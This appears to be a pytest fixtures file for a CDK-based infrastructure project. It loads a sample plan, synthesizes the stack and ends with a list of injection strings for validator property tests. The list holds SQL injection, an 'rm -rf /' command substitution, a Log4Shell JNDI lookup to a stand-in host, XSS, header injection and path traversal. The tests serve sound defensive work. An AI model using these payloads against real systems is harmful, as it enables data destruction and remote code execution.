from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).resolve().parent.parent
SAMPLE_PLAN = ROOT / "plans" / "sample-plan.json"


@pytest.fixture
def sample_plan_document() -> dict[str, Any]:
    return json.loads(SAMPLE_PLAN.read_text())


@pytest.fixture(scope="session")
def synthesized(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The stack synthesized once per test worker, exactly as `cdk synth` would."""
    from localcloud.synth import synthesize

    return synthesize(outdir=tmp_path_factory.mktemp("cdk.out"))


@pytest.fixture(scope="session")
def template(synthesized: Path) -> dict[str, Any]:
    return json.loads(synthesized.read_text())


# Injection-like text for property tests: each holds a character no identifier pattern of the inputs allows.
INJECTIONS = (
    "'; DROP TABLE runs; --",
    "$(rm -rf /)",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "a\r\nX-Injected: yes",
    "line\nbreak",
    "nul\x00byte",
    "`id`",
    "a|b",
    "..\\..\\windows",
)
